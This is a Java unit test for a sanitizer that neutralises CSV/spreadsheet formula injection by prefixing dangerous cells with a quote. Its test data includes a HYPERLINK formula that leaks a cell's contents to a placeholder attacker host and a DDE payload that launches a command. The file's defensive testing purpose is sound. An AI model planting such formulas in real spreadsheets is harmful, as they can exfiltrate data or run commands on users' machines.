package jp.tetsuzuki.bpmn.rules;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** OWASP CSV injection: the cells a spreadsheet would run get a leading quote, others are kept. */
class SpreadsheetCellsTest {

  @Test
  void formulaStartsGetALeadingQuote() {
    for (String attack : new String[] {"=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝HYPERLINK(\"x\")", "＋1", "－1", "＠SUM(A1)"}) {
      assertThat(SpreadsheetCells.inert(attack)).isEqualTo("'" + attack);
    }
  }

  @Test
  void otherCellsAreKept() {
    assertThat(SpreadsheetCells.inert("さくら保育園")).isEqualTo("さくら保育園");
    assertThat(SpreadsheetCells.inert("10")).isEqualTo("10");
    assertThat(SpreadsheetCells.inert("a=b")).isEqualTo("a=b");
    assertThat(SpreadsheetCells.inert("")).isEmpty();
    assertThat(SpreadsheetCells.inert(null)).isNull();
  }
}
